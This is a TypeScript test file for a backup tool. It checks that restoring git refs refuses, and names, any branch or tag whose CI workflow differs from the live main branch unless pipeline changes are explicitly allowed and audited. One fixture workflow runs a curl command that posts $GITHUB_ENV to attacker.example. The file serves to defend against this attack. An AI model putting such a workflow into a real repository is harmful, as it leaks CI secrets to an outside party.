import { describe, expect, it } from 'vitest';
import { join } from 'node:path';
import { CliWorkspace } from '../helpers/cli.js';
import { refNames, sh } from '../helpers/git.js';
import { fastImport, initBare } from '../helpers/git-fast.js';
import { withUnlockedConsole } from '../helpers/console-client.js';

const CI_V0 = 'name: ci\non: push\njobs: { test: { runs-on: ubuntu-latest, steps: [{ run: make test }] } }\n';
const CI_V1 = 'name: ci\non: push\njobs: { test: { runs-on: ubuntu-latest, steps: [{ run: make check }] } }\n';
const EXFIL = 'name: exfil\non: push\njobs: { x: { runs-on: ubuntu-latest, steps: [{ run: "curl -d @$GITHUB_ENV https://attacker.example" }] } }\n';

/**
 * A restore pushes back commits its snapshot's writer recorded. A hijacked agent records a branch or
 * tag whose workflow is its own, then deletes it live so that the Incident (or the CLI) pushes it
 * back; CI runs it on the push (`on: push`, tags too) with the repository's secrets. A pushed ref
 * whose pipeline files the live default branch never held is refused unless the operator allows it.
 */
describe('refs pushed back into a live repository carry the snapshot writer\'s pipelines', async () => {
  const ws = new CliWorkspace();
  await ws.setupQuick();
  const live = join(ws.dir, 'live.git');
  initBare(live);
  fastImport(live, [
    { ref: 'refs/heads/main', files: { 'README.md': '# app\n', '.github/workflows/ci.yml': CI_V0 } },
    { ref: 'refs/heads/legacy', from: 'refs/heads/main', files: { 'old.txt': 'x\n' } }, // the CI main ran then
    { ref: 'refs/heads/main', files: { '.github/workflows/ci.yml': CI_V1 } },
    { ref: 'refs/heads/docs', from: 'refs/heads/main', files: { 'docs.md': 'how\n' } },
    { ref: 'refs/heads/deploy', from: 'refs/heads/main', files: { '.github/workflows/exfil.yml': EXFIL } },
    { ref: 'refs/tags/v9', from: 'refs/heads/main', files: { '.github/workflows/ci.yml': EXFIL } },
  ]);
  await ws.hereOk(['backup', '--store', ws.store, '--writer', 'writer.json', '--source', `app=git:${live}`]);
  const dropped = () => sh(live, 'update-ref', '-d', 'refs/heads/deploy') + sh(live, 'update-ref', '-d', 'refs/tags/v9');
  sh(live, 'update-ref', '-d', 'refs/heads/docs');
  sh(live, 'update-ref', '-d', 'refs/heads/legacy');
  dropped();
  const restore = (...rest: string[]) => ws.here(ws.operator('restore', 'latest:app', '--target', live, ...rest));

  it('the CLI pushes refs that run what live ran (now or before), and refuses one whose pipeline is new or changed, naming it', async () => {
    await ws.hereOk(ws.operator('restore', 'latest:app', '--target', live, '--ref', 'refs/heads/docs', '--ref', 'refs/heads/legacy'));
    expect(refNames(live)).toEqual(['refs/heads/docs', 'refs/heads/legacy', 'refs/heads/main']);

    const deploy = await restore('--ref', 'refs/heads/deploy');
    expect(deploy.code).not.toBe(0);
    expect(deploy.stderr).toMatch(/refs\/heads\/deploy RUNS CI: \.github\/workflows\/exfil\.yml \(new\) differs from live main: pushing it to .* runs the pipeline the snapshot's writer recorded, with that repository's secrets; nothing was pushed/);
    const tag = await restore('--ref', 'refs/tags/v9');
    expect(tag.stderr).toMatch(/refs\/tags\/v9 RUNS CI: \.github\/workflows\/ci\.yml \(changed\) differs from live main/);
    expect(refNames(live)).toEqual(['refs/heads/docs', 'refs/heads/legacy', 'refs/heads/main']);

    const allowed = await restore('--ref', 'refs/heads/deploy', '--ref', 'refs/tags/v9', '--allow-pipeline-changes');
    expect(allowed.code).toBe(0);
    expect(allowed.stdout).toMatch(/refs\/heads\/deploy RUNS CI: .*exfil\.yml \(new\) differs from live main: pushed, as allowed/);
    expect(refNames(live)).toEqual(['refs/heads/deploy', 'refs/heads/docs', 'refs/heads/legacy', 'refs/heads/main', 'refs/tags/v9']);
  });

  it('the console says a plan pushes commits, refuses such a ref unless "Allow pipeline changes" was ticked, and records the consent', async () => {
    dropped();
    await withUnlockedConsole(ws, async ({ ok, finished, vaultId, dir }) => {
      const request = { vaultId, snapshot: 'latest', paths: ['app/refs/refs/heads/deploy'], target: join(dir, 'not-used') };
      const plan = await ok('restore.plan', request);
      expect([plan.pushesCommits, plan.confirmWord]).toEqual([true, 'app']);
      const refused = await finished((await ok('restore.start', { planId: plan.planId, confirm: 'app' })).jobId);
      expect(refused.verification).toEqual([{ item: 'app/refs/refs/heads/deploy', ok: false, detail: expect.stringMatching(/^refs\/heads\/deploy RUNS CI: \.github\/workflows\/exfil\.yml \(new\) differs from live main: .*nothing was pushed/) }]);
      expect(refNames(live)).not.toContain('refs/heads/deploy');

      const again = await ok('restore.plan', request);
      const done = await finished((await ok('restore.start', { planId: again.planId, confirm: 'app', allowPipelineChanges: true })).jobId);
      expect(done.status).toBe('done');
      expect(refNames(live)).toContain('refs/heads/deploy');
      const audit = await ok('audit.list', {});
      expect(JSON.stringify(audit)).toMatch(/pipeline changes allowed/);
    });
  });

  it('a repository its writer named "y" is confirmed by typing restore-y, never "y"', async () => {
    await ws.hereOk(['backup', '--store', ws.store, '--writer', 'writer.json', '--source', `y=git:${live}`]);
    await withUnlockedConsole(ws, async ({ fails, ok, vaultId, dir }) => {
      const plan = await ok('restore.plan', { vaultId, snapshot: 'latest', paths: ['y/refs/refs/heads/main'], target: join(dir, 'x') });
      expect(plan.confirmWord).toBe('restore-y');
      expect((await fails('restore.start', { planId: plan.planId, confirm: 'y' })).message).toMatch(/type "restore-y" \(the repository's name\) to confirm/);
    });
  });
});
